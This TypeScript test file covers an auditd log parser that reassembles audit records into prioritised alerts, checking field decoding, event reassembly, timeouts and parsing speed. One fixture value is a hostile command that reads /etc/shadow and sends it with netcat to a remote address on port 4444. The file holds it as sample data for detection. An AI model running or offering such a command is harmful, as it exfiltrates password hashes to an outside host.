import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { suite, test } from 'node:test';
import { auditdDocument } from './document.ts';
import { type AuditEvent, Reassembler } from './reassemble.ts';
import { parseRecord } from './record.ts';

const lines = readFileSync(new URL('../../../test/data/auditd/audit.log', import.meta.url))
  .toString()
  .trimEnd()
  .split('\n')
  .filter((line) => line !== '');

/** The events of lines that stand at 0, 1, 2 …, all of them in the end. */
function eventsIn(texts: readonly string[]): AuditEvent[] {
  const reassembler = new Reassembler();
  const whole = texts.flatMap((text, at) => {
    const record = parseRecord(text);
    assert.ok(record, text);
    return reassembler.add(record, 'host-1', at, 0);
  });
  return [...whole, ...reassembler.giveUp(0, true)];
}

type Alert = Readonly<Record<string, unknown>> & {
  readonly output_fields: Readonly<Record<string, unknown>>;
};

function alertsIn(texts: readonly string[], priorities = {}): Alert[] {
  return eventsIn(texts).map(
    (event) => auditdDocument(event, { priorities }).document as unknown as Alert,
  );
}

const corpus = alertsIn(lines, { modules: 'alert' });

function alertOf(serial: string): Alert {
  const alert = corpus.find(({ output_fields: fields }) => fields['auditd.serial'] === serial);
  assert.ok(alert, serial);
  return alert;
}

suite('the corpus', () => {
  test('has 14 events, each with its rule and priority', () => {
    const said = corpus.map(({ output_fields: fields, rule, priority }) => [
      fields['auditd.serial'],
      rule,
      priority,
    ]);
    assert.deepEqual(
      said.toSorted(([one], [other]) => Number(one) - Number(other)),
      [
        ['551', 'auditd:SYSCALL', 'Debug'],
        ['552', 'auditd:DAEMON_END', 'Error'],
        ['24287', 'auditd:sshd_config', 'Notice'],
        ['90211', 'auditd:root_cmd', 'Notice'],
        ['90212', 'auditd:USER_LOGIN', 'Warning'],
        ['90213', 'auditd:USER_AUTH', 'Warning'],
        ['90214', 'auditd:USER_CMD', 'Notice'],
        ['90215', 'auditd:ADD_USER', 'Warning'],
        ['90216', 'auditd:ANOM_PROMISCUOUS', 'Critical'],
        ['90217', 'auditd:AVC', 'Warning'],
        ['90218', 'auditd:CONFIG_CHANGE', 'Error'],
        ['90219', 'auditd:modules', 'Alert'],
        ['90230', 'auditd:shadow', 'Notice'],
        ['90231', 'auditd:PATH', 'Debug'],
      ],
    );
  });

  test('arguments are decoded, and names taken from behind the numbers', () => {
    const { output_fields: fields, time, hostname } = alertOf('90211');
    assert.equal(time, '2026-08-11T00:00:01.512Z');
    assert.equal(hostname, 'host-1');
    assert.equal(fields['proc.cmdline'], 'bash -c cat /etc/shadow | nc 203.0.113.77 4444');
    assert.equal(fields['user.loginname'], 'nguyen.an');
    assert.equal(fields['user.uid'], 0);
    assert.equal(fields['evt.type'], 'execve');
    assert.equal(fields['fd.name'], '/usr/bin/bash');
    assert.equal(fields['evt.res'], 'SUCCESS');
  });

  test('a command line without its arguments is its title', () => {
    const { output_fields: fields } = alertOf('24287');
    assert.equal(fields['proc.cmdline'], 'cat /etc/ssh/sshd_config');
    assert.equal(fields['evt.res'], 'FAILED');
    assert.equal(fields['auditd.exit'], '-13');
  });

  test('records that came mixed are put together', () => {
    const { output_fields: fields } = alertOf('90230');
    assert.equal(fields['fd.name'], '/etc/shadow');
    assert.deepEqual(fields['auditd.types'], ['SYSCALL', 'PATH']);
    assert.equal(alertOf('90231').output_fields['fd.name'], '/tmp/interleaved');
  });

  test('another node is another host, with the calls of its architecture', () => {
    const { output_fields: fields, hostname } = alertOf('551');
    assert.equal(hostname, 'db-host-sgn-2');
    assert.equal(fields['proc.name'], 'm\u00e8o'.normalize('NFC'));
    assert.equal(fields['evt.type'], 'execve');
  });

  test('what programs say is read within its quotes', () => {
    const { output_fields: fields, output } = alertOf('90212');
    assert.equal(fields['user.name'], 'root');
    assert.equal(fields['user.loginuid'], -1);
    assert.equal(fields['auditd.addr'], '203.0.113.77');
    assert.match(String(output), /^auditd USER_LOGIN \(user=root .* result=FAILED\)$/);
    assert.equal(alertOf('90214').output_fields['proc.cmdline'], 'cat /etc/shadow');
  });
});

suite('records', () => {
  test('of other forms are none', () => {
    for (const text of ['', 'type=X', 'type=SYSCALL msg=audit(1.2:3): a=b', 'audit: type=1400']) {
      assert.equal(parseRecord(text), undefined, text);
    }
  });

  test('arguments in pieces are one word', () => {
    const stamp = 'msg=audit(1786406401.512:1):';
    const [alert] = alertsIn([
      `type=EXECVE ${stamp} argc=3 a0="sh" a1_len=8 a1[0]=61626364 a1[1]=65666768 a2="x"`,
    ]);
    assert.equal(alert?.output_fields['proc.cmdline'], 'sh abcdefgh x');
  });

  test('several keys are several, and each has its priority', () => {
    const line = `type=SYSCALL msg=audit(1786406401.512:1): syscall=59 key=${Buffer.from('a\u0001b').toString('hex').toUpperCase()}`;
    const [alert] = alertsIn([line], { b: 'critical' });
    assert.deepEqual(alert?.output_fields['auditd.key'], ['a', 'b']);
    assert.equal(alert?.['priority'], 'Critical');
  });

  test('that a rule was made is none of what the rule finds', () => {
    const change = (op: string) =>
      alertsIn(
        [`type=CONFIG_CHANGE msg=audit(1786406401.512:1): op=${op} key="modules" list=4 res=1`],
        { modules: 'critical' },
      )[0];
    const made = change('add_rule');
    assert.deepEqual([made?.['rule'], made?.['priority']], ['auditd:CONFIG_CHANGE', 'Debug']);
    assert.equal(made?.output_fields['auditd.key'], 'modules');
    assert.equal(change('remove_rule')?.['priority'], 'Error');
  });

  test('the same event has the same uuid, and another one another', () => {
    const [one] = alertsIn(lines);
    const [again, other] = alertsIn(lines);
    assert.equal(one?.['uuid'], again?.['uuid']);
    assert.notEqual(one?.['uuid'], other?.['uuid']);
  });
});

function record(serial: number, type = 'SYSCALL', seconds = 1_786_406_401): string {
  return `type=${type} msg=audit(${seconds}.000:${serial}): syscall=59`;
}

suite('an event that is not ended', () => {
  function add(reassembler: Reassembler, text: string, at: number, nowMs: number): AuditEvent[] {
    return reassembler.add(parseRecord(text)!, '', at, nowMs);
  }

  test('is given out two seconds later, by the clock or by the log', () => {
    const reassembler = new Reassembler();
    assert.deepEqual(add(reassembler, record(1), 0, 1000), []);
    assert.deepEqual(reassembler.giveUp(3000, false), []);
    assert.equal(reassembler.giveUp(3001, false).length, 1);
    assert.deepEqual(add(reassembler, record(2), 0, 1000), []);
    assert.equal(add(reassembler, record(3, 'SYSCALL', 1_786_406_404), 1, 1000).length, 1);
  });

  test('keeps its place in the source', () => {
    const reassembler = new Reassembler();
    assert.equal(reassembler.oldestStart(), undefined);
    add(reassembler, record(1), 7, 0);
    add(reassembler, record(2), 9, 0);
    assert.equal(reassembler.oldestStart(), 7);
    add(reassembler, record(1, 'EOE'), 11, 0);
    assert.equal(reassembler.oldestStart(), 9);
    assert.deepEqual(add(reassembler, record(1, 'EOE'), 12, 0), []);
  });

  test('gives way where there are too many, or they are too large', () => {
    const reassembler = new Reassembler();
    let given = 0;
    for (let serial = 0; serial < 10_050; serial += 1) {
      given += add(reassembler, record(serial), serial, 0).length;
    }
    assert.equal(given, 50);
    const large = new Reassembler();
    let whole = 0;
    for (let serial = 0; serial < 100; serial += 1) {
      whole += add(large, `${record(serial)} a="${'x'.repeat(240_000)}"`, serial, 0).length;
    }
    assert.ok(whole > 20);
  });

  test('holds no more records than an event has', () => {
    const events = eventsIn(Array.from({ length: 1000 }, () => record(1, 'PATH')));
    assert.deepEqual(
      events.map(({ records }) => records.length),
      [64],
    );
  });
});

test('the time it takes grows with the length of the line, whatever is in it', () => {
  for (const part of ['a="', "a='", 'a=', ' a=\'b="', '=', ' ', '\u001d', 'AB', 'msg=\'a="']) {
    for (const type of ['SYSCALL', 'AVC', 'EXECVE']) {
      const line = `type=${type} msg=audit(1786406401.512:1): ${part.repeat((1 << 20) / part.length)}`;
      const startedMs = performance.now();
      parseRecord(line);
      assert.ok(performance.now() - startedMs < 1000, type + part);
    }
  }
});
